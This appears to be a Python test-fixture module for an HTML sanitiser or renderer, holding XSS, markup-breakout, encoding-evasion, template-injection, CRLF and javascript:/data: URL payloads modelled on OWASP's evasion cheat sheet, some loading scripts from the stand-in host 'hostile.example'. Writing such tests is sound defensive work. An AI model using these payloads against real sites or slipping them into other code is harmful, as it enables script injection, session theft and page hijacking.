"""Text that tries to become something else, after the classes of OWASP's evasion cheat sheet.

Whatever comes alive calls ``hostile()``, makes an element with ``data-hostile``, asks
``hostile.example``, or works out ``PRODUCT``; what stays text does none of it.
"""

from collections.abc import Iterator
from itertools import cycle, islice

MARK = "data-hostile"
HOST = "hostile.example"
PRODUCT = str(7919 * 6841)
_SUM = "7919*6841"
_ALIVE = f"<script {MARK}>hostile()</script>"
_PICTURE = f"<img {MARK} src=x onerror=hostile()>"

MARKUP = (
    _ALIVE,
    f"<ScRiPt/{MARK} src=//{HOST}/a.js></sCrIpT >",
    f"<scr<script>ipt {MARK}>hostile()</scr</script>ipt>",
    f"<<script {MARK}>hostile();//<</script>",
    f"<script {MARK} type=module>import '//{HOST}/a.mjs'</script>",
    _PICTURE,
    f"<img {MARK} src=https://{HOST}/seen.png srcset='https://{HOST}/2.png 2x'>",
    f"<image {MARK} src=x onerror=hostile()>",
    f"<svg {MARK} onload=hostile()>",
    f"<svg {MARK}><animate onbegin=hostile() attributeName=x dur=1s></svg>",
    f"<svg {MARK}><foreignObject><body onload=hostile()></foreignObject></svg>",
    f"<svg {MARK}><use href='data:image/svg+xml,<svg id=x onload=hostile()>#x'></svg>",
    f"<math {MARK}><mtext><table><mglyph><style><!--</style>{_PICTURE}",
    f"<math {MARK} href=javascript:hostile()>pick</math>",
    f"<iframe {MARK} srcdoc='<script>parent.hostile()</script>'></iframe>",
    f"<iframe {MARK} src=javascript:parent.hostile()></iframe>",
    f"<object {MARK} data=https://{HOST}/a.swf></object><embed {MARK} src=//{HOST}/b>",
    f"<video {MARK} src=x onerror=hostile()><audio {MARK} src=//{HOST}/a.ogg autoplay>",
    f"<meta {MARK} http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<base {MARK} href=https://{HOST}/>",
    f"<link {MARK} rel=stylesheet href=https://{HOST}/a.css>",
    f"<style {MARK}>@import 'https://{HOST}/b.css'; body {{ display: none }}</style>",
    f"<form {MARK} action=https://{HOST}/ id=q><input name=q autofocus onfocus=hostile()>",
    f"<button {MARK} formaction=javascript:hostile()>Show</button>",
    f"<details {MARK} open ontoggle=hostile()><summary>more</summary>",
    f"<b {MARK} onpointerenter=hostile() style=position:fixed;inset:0>all over</b>",
    f"<a {MARK} href=javascript:hostile() hx-get=//{HOST}/x hx-trigger=load>here</a>",
    f"<div {MARK} hx-on:htmx:load=hostile() hx-get=//{HOST}/x hx-trigger=load></div>",
    f"<x {MARK} contenteditable onblur=hostile()>lose focus</x>",
    f"<template {MARK}>{_ALIVE}</template>",
)

BREAKING_OUT = (
    f'">{_PICTURE}',
    f"'>{_PICTURE}",
    f"`>{_PICTURE}",
    f'" autofocus onfocus=hostile() {MARK}="',
    f"' onmouseover='hostile()' {MARK}='",
    f" onclick=hostile() {MARK}=x ",
    f"</title>{_ALIVE}",
    f"</textarea>{_PICTURE}",
    f"</style>{_ALIVE}",
    f"</option></select>{_PICTURE}",
    f"</template></svg></math>{_ALIVE}",
    f"</noscript>{_PICTURE}",
    f"</script>{_ALIVE}",
    f"<!--<script>-->{_ALIVE}",
    f"--><!-->{_ALIVE}<!--",
    f"]]>{_ALIVE}<![CDATA[",
    f'\\";hostile();//</script>{_ALIVE}',
    f"\\u003cscript {MARK}\\u003ehostile()\\u003c/script\\u003e",
    "';hostile();//",
    f"}} body {{ background: url(https://{HOST}/c) }} x {{",
    f"expression(hostile()) style=behavior:url(//{HOST}/d.htc)",
)

ENCODED = (
    f"&lt;script {MARK}&gt;hostile()&lt;/script&gt;",
    f"&amp;lt;img {MARK} src=x onerror=hostile()&amp;gt;",
    f"&#60;script {MARK}&#62;hostile()&#x3C;/script&#x3e",
    f"%3Cscript%20{MARK}%3Ehostile()%3C/script%3E",
    f"+ADw-script {MARK}+AD4-hostile()+ADw-/script+AD4-",
    f"\u00bcscript {MARK}\u00behostile()\u00bc/script\u00be",
    f"\uff1cscript {MARK}\uff1ehostile()\uff1c/script\uff1e",
    f"<scr\x00ipt {MARK}>hostile()</scr\x00ipt>",
    f"\x00{_PICTURE}\x08\x1b[2J\x7f",
    f"\u2028hostile()\u2029//{_ALIVE}",
    f"\u202e<b {MARK}>\u2066denrut\u2069\u202c",
    f"\ufeff\u200b<script\u200b {MARK}>hostile()</script>",
    f"\r\nSet-Cookie: hostile=1\r\n\r\n{_ALIVE}",
    f"\nevent: change\ndata: {_ALIVE}\n\n",
)

TEMPLATES = (
    f"{{{{ {_SUM} }}}}{{% for x in () %}}",
    f"{{{{ ''.__class__.__mro__ }}}}{{# {_SUM} #}}",
    f"${{{_SUM}}}#{{{_SUM}}}<%= {_SUM} %>",
    "%s%(author)s{0}{0.__class__}{author!r}",
)

ADDRESSES = (
    "javascript:hostile()",
    "JaVaScRiPt:hostile()//",
    "java\tscript:hostile()",
    "\x01javascript:hostile()",
    "&#106;avascript&colon;hostile()",
    f"javascript://{HOST}/%0ahostile()",
    "data:text/html,<script>hostile()</script>",
    "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=",
    "vbscript:hostile()",
    f"//{HOST}/path",
    f"\\\\{HOST}\\path",
    f'https://paper.example/a?b="><script {MARK}>hostile()</script>',
    f"https://paper.example/' onmouseover='hostile()' {MARK}='",
    "https://paper.example/\r\nLocation: javascript:hostile()",
    "https://user:javascript@paper.example:80:90/[x]",
)

LONG = (f"<b {MARK}>" * 200, "unbroken" * 700)

PAYLOADS = (*MARKUP, *BREAKING_OUT, *ENCODED, *TEMPLATES, *ADDRESSES, *LONG)


def in_turns(payloads: tuple[str, ...], *, first: int) -> Iterator[str]:
    """Give payloads for ever, from another one on for each ``first``."""
    return islice(cycle(payloads), first % len(payloads), None)
